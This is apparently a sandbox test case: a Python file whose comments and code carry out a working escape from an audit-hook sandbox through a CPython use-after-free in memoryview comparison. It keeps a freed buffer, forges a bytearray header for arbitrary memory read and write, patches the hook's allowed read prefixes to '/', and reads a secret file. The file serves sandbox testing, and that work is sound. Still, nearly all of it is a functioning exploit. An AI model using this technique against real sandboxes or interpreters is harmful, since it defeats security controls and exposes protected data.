# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# Comparing two memoryviews whose formats differ (`==`, `!=`, `in`, `list.index`, a dict lookup of equal hashes...) is
# done by the struct module: C looks `Struct` up in `sys.modules["struct"]` at each comparison (an attribute the code
# may set), makes one for each format and calls its `unpack_from` on each item with a memoryview of a small block C
# allocated for that item and frees as the comparison ends, a view with no owner (`view.obj` is None: CPython
# gh-142663 reports the comparison reading freed memory; the view itself is gh-60198's kind). An `unpack_from` of the
# code's own keeps that view, so after the comparison it reads and writes a freed 16-byte block: taken next by the
# item table of a two-item list, whose first item is then set to a forged bytearray header (size 2**62, data at
# address 0) inside a bytes object of the code's own, so any address is read and written, with no audit event. From
# there the hook's frozen read prefixes (the frame of a refusal it makes unreported hands them out) gain "/", and the
# secret file is read where the hook is what guards it. With the hook the comparison hands the code's `Struct` no
# such view (1); without it native code is assumed anyway.
import os
import struct
import sys

HELD = []  # every object the forged pointer or a table touches, kept for good
FAKE = struct.pack("<7q", 1 << 40, id(bytearray), 2**62, 2**62, 0, 0, 0)  # refcount, type, size, alloc, bytes, start


def window():
    """A bytearray header of the code's own making, over all memory, reached through a list item it rewrote."""
    body = b"\0" * 8 + FAKE + b"\0" * 8
    marker = object()
    HELD.extend((body, marker))
    fake_at = id(body) + 32 + 8  # past the bytes header and 8 bytes of the body
    kept = []

    class Keeper:  # what the comparison calls `Struct`
        def __init__(self, fmt):
            self.fmt = fmt

        def unpack_from(self, buf, offset=0):
            kept.append(buf)  # a view of the item block C frees once the comparison ends
            return (0,)

    module = sys.modules["struct"]
    real = module.Struct
    for _ in range(16):
        module.Struct = Keeper
        try:
            _ = memoryview(bytearray(8)).cast("q") == memoryview(bytearray(8)).cast("d")  # two formats: struct's way
        finally:
            module.Struct = real
        tables = [[marker, marker] for _ in range(8)]  # 16-byte item tables take the freed blocks
        HELD.append(tables)
        for view in kept:
            if view.obj is None and view.nbytes == 8 and int.from_bytes(view, "little") == id(marker):
                view[:8] = fake_at.to_bytes(8, "little")  # a table's first item now names the forged header
                HELD.append(view)
                for table in tables:
                    if table[0] is not marker:
                        return table[0] if type(table[0]) is bytearray else None
        del kept[:]
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    memory = window()
    if memory is None or frame is None:  # sealed, or no hook here: native code is assumed anyway
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    at = id(prefixes) + 24  # the tuple's first item
    memory[at:at + 8] = id(root).to_bytes(8, "little")
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a memoryview comparison's unpacker buffer kept past its free: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a memoryview comparison's unpacker buffer"
